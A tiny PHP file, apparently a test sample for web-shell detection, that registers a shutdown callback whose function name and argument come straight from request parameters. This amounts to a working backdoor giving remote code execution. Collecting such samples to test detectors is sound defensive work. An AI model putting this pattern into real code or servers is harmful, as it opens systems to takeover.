<?php
// Test sample: callable registered for script shutdown from the request.
register_shutdown_function($_REQUEST['sf'], $_REQUEST['sa']);
